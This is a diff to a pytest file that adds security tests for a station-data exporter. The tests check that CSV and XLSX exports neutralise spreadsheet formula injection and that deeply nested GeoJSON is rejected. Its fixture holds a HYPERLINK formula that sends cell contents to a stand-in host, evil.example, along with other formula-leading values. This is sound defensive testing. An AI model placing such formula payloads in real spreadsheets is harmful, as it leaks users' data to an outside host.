@@ -74,7 +74,8 @@ def test_unreadable_files_raise_one_precise_error(name):
 
 def test_corpus_is_at_least_fifteen_distinct_inputs():
     assert len(set(CORPUS) | set(UNREADABLE)) >= 15
-    assert {p.name for p in BAD.iterdir()} == set(CORPUS) | set(UNREADABLE)
+    # the bad tables (*.csv) belong to tests/test_importer.py
+    assert {p.name for p in BAD.glob("*.geojson")} == set(CORPUS) | set(UNREADABLE)
 
 
 def test_load_raises_with_every_error(tmp_path):
@@ -177,3 +178,72 @@ def test_concurrent_exports_never_interleave(fixture_path, tmp_path):
 def test_unknown_export_format(fixture_path, tmp_path):
     with pytest.raises(BadRequestError, match="Unknown export format 'shp'"):
         stations.export_stations(stations.load_stations(fixture_path), tmp_path / "x.shp")
+
+
+# --- hardened (issue 11): formula injection in exports, deeply nested JSON -------------------------------------
+
+_HOSTILE = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "address": "@SUM(1+1)",
+            "phone": "+86 29 8350 0000", "manager": "-2+3", "host_org": "\tcmd", "name_en": "\rx",
+            "opening_hours_raw": "-3.5"}
+
+
+def _hostile_stations(fixture_path):
+    frame = stations.load_stations(fixture_path)
+    for column, value in _HOSTILE.items():
+        frame.loc[0, column] = value
+    frame.loc[1, "capacity"] = -1  # a negative number stays a number
+    return frame
+
+
+@pytest.mark.parametrize("headers", ["en", "zh"])
+def test_csv_export_neutralises_formula_text(fixture_path, tmp_path, headers):
+    import csv
+
+    out = stations.export_stations(_hostile_stations(fixture_path), tmp_path / "x.csv", headers=headers)
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    cells = [cell for row in rows for cell in row]
+    for value in _HOSTILE.values():
+        expected = value if value == "-3.5" else "'" + value
+        assert expected in cells
+    assert "-1" in rows[2]
+    assert not [c for c in cells if c[:1] in set("=+@\t\r") or (c[:1] == "-" and c not in {"-1", "-3.5"})]
+
+
+def test_xlsx_export_writes_formula_text_as_quoted_strings(fixture_path, tmp_path):
+    import openpyxl
+
+    out = stations.export_stations(_hostile_stations(fixture_path), tmp_path / "x.xlsx")
+    sheet = openpyxl.load_workbook(out)["stations"]
+    header = [c.value for c in sheet[1]]
+    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
+    assert row["name"].data_type == "s"
+    assert row["name"].value == "'" + _HOSTILE["name"]
+    assert row["address"].value == "'@SUM(1+1)"
+    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)
+    capacity = {h: c for h, c in zip(header, sheet[3], strict=True)}["capacity"]
+    assert capacity.value == -1 and capacity.data_type == "n"
+
+
+def test_deeply_nested_json_is_a_data_error(tmp_path):
+    path = tmp_path / "deep.geojson"
+    depth = 100_000
+    path.write_text('{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": '
+                    '{"type": "Point", "coordinates": ' + "[" * depth + "]" * depth + "}}]}", encoding="utf-8")
+    with pytest.raises(StationDataError, match="nested too deeply"):
+        stations.read_feature_collection(path)
+    with pytest.raises(StationDataError, match="nested too deeply"):
+        stations.load_stations(path)
+
+
+def test_nested_json_just_under_the_parser_limit_is_an_ordinary_error(tmp_path, fixture_path):
+    doc = json.loads(fixture_path.read_text(encoding="utf-8"))
+    nested: list = []
+    for _ in range(500):
+        nested = [nested]
+    doc["features"][0]["geometry"]["coordinates"] = nested
+    doc["features"][1]["properties"]["extra"] = {"deep": nested}
+    path = tmp_path / "nested.geojson"
+    path.write_text(json.dumps(doc), encoding="utf-8")
+    with pytest.raises(StationDataError, match="geometry.coordinates"):
+        stations.load_stations(path)
